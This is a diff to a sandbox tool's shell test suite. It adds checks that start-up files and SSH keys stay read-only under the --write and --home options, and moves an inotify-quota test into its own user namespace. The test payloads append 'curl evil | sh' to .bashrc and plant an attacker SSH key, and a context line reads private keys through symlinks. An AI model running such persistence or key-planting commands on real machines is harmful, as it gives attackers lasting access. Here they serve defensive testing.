@@ -901,6 +901,30 @@ sbh "$FH" --profile desktop -- sh -c 'cat ~/.themes/id_rsa ~/.config/gtk-3.0/.ss
 expect_eq "desktop: binds of ~/.themes and ~/.config/gtk-3.0 follow no planted symlink" "end" "$OUT"
 rm -f "$FH/.themes" "$FH/.config/gtk-3.0"
 
+# The access options are binds like the profile's: the protect lines
+# still apply over them. --write of the home (run from elsewhere), and
+# --home on a directory that holds start-up files.
+AH="$TMP/access-home"
+mkdir -p "$AH/.ssh" "$TMP/elsewhere"
+printf '# rc\n' >"$AH/.bashrc"
+printf 'ssh-ed25519 AAAA user\n' >"$AH/.ssh/authorized_keys"
+ah_sum() { cat "$AH/.bashrc" "$AH/.ssh/authorized_keys" | md5sum; }
+before=$(ah_sum)
+(cd "$TMP/elsewhere" && HOME="$AH" "$SB" --write "$AH" -- sh -c '
+  echo "curl evil | sh" >> "$HOME/.bashrc" 2>/dev/null && echo bashrc-appended
+  echo "ssh-ed25519 EVIL" >> "$HOME/.ssh/authorized_keys" 2>/dev/null && echo key-added
+  touch "$HOME/made-here" && echo home-writable') >"$TMP/out" 2>/dev/null
+expect_eq "--write \$HOME: start-up files and ~/.ssh stay read-only" "home-writable" "$(cat "$TMP/out")"
+check "--write \$HOME: the home itself was writable" test -f "$AH/made-here"
+rm -f "$AH/made-here"
+(cd "$TMP/elsewhere" && HOME="$TMP/nohome" "$SB" --home "$AH" -- sh -c '
+  echo "curl evil | sh" >> "$HOME/.bashrc" 2>/dev/null && echo bashrc-appended
+  echo "ssh-ed25519 EVIL" >> "$HOME/.ssh/authorized_keys" 2>/dev/null && echo key-added
+  touch "$HOME/made-here" && echo home-writable') >"$TMP/out" 2>/dev/null
+expect_eq "--home DIR: DIR's start-up files and .ssh stay read-only" "home-writable" "$(cat "$TMP/out")"
+check "--home DIR: DIR itself was writable" test -f "$AH/made-here"
+expect_eq "--write, --home: start-up files and keys unchanged on the host" "$before" "$(ah_sum)"
+
 # The sandbox's own pid 1 keeps nothing of set-up the command could reopen
 # through /proc/1/fd. (It stays dumpable, as bwrap's: callers join the
 # sandbox through /proc/PID/ns.) The default profile refuses ptrace of
@@ -1089,27 +1113,40 @@ os.rename(sys.argv[1] + ".tmp", sys.argv[1])
 while not os.path.exists(sys.argv[2]):
     time.sleep(0.02)
 EOF
-rm -f "$WORK/ino-ready" "$WORK/ino-done"
-# shellcheck disable=SC2086
+# The caller here is a user namespace of this test's own, with a limit of
+# its own (16): what other tests and the host's daemons hold of the same
+# uid's instances does not count there, so the check is the sandbox's
+# doing alone. Events, not times: the sandbox says when it holds all it
+# could get, and holds them until told.
+cat >"$WORK/inotify-caller.sh" <<'EOF'
+set -u
+echo 16 >/proc/sys/user/max_inotify_instances || exit 90
 "$SB" $STRICT -- "$PY" "$WORK/inotify.py" "$WORK/ino-ready" "$WORK/ino-done" >"$TMP/ino.out" 2>&1 &
 ino_pid=$!
-# Waits for an event (the file), not for a time; the bound only stops a
-# broken run.
-for _ in $(seq 1500); do [ -e "$WORK/ino-ready" ] && break; sleep 0.02; done
-inside=$(cat "$WORK/ino-ready" 2>/dev/null)
-host=$("$PY" -c 'import ctypes, os
+for _ in $(seq 3000); do [ -e "$WORK/ino-ready" ] && break; sleep 0.02; done
+echo "inside $(cat "$WORK/ino-ready" 2>/dev/null)"
+echo "host $("$PY" -c 'import ctypes, os
 l = ctypes.CDLL(None, use_errno=True)
-print("OK" if l.inotify_init1(0) >= 0 else os.strerror(ctypes.get_errno()))')
+print("OK" if l.inotify_init1(0) >= 0 else os.strerror(ctypes.get_errno()))')"
 touch "$WORK/ino-done"
 wait "$ino_pid"
-ino_rc=$?
-limit=$(cat /proc/sys/user/max_inotify_instances)
-expect_match "inotify: the sandbox made instances until refused" "^[0-9]+ Too many open files$" "$inside"
-check "inotify: the sandbox got at most half of the caller's limit ($inside of $limit)" \
-  test "${inside%% *}" -le $((limit / 2))
-expect_eq "inotify: the caller can still make one on the host meanwhile" "OK" "$host"
-expect_eq "inotify: the sandbox ran to its end" 0 "$ino_rc"
-[ "$ino_rc" = 0 ] || diag "$(cat "$TMP/ino.out")"
+echo "rc $?"
+EOF
+rm -f "$WORK/ino-ready" "$WORK/ino-done"
+if unshare -Ur true 2>/dev/null; then
+  res_ino=$(SB="$SB" STRICT="$STRICT" PY="$PY" WORK="$WORK" TMP="$TMP" unshare -Ur sh "$WORK/inotify-caller.sh" 2>&1)
+  inside=$(printf '%s\n' "$res_ino" | sed -n 's/^inside //p')
+  host=$(printf '%s\n' "$res_ino" | sed -n 's/^host //p')
+  ino_rc=$(printf '%s\n' "$res_ino" | sed -n 's/^rc //p')
+  expect_match "inotify: the sandbox made instances until refused" "^[0-9]+ Too many open files$" "$inside"
+  check "inotify: the sandbox got at most half of the caller's limit ($inside of 16)" \
+    test "${inside%% *}" -le 8
+  expect_eq "inotify: the caller can still make one meanwhile" "OK" "$host"
+  expect_eq "inotify: the sandbox ran to its end" 0 "$ino_rc"
+  [ "$ino_rc" = 0 ] || diag "$res_ino" "$(cat "$TMP/ino.out")"
+else
+  skip "inotify quotas: no user namespace for the test's own caller"
+fi
 # ---- the caller's secrets in the environment ----
 # Under the profiles, inherited variables named like secrets stay outside
 # (names only: the test's values must not show up in --explain either);
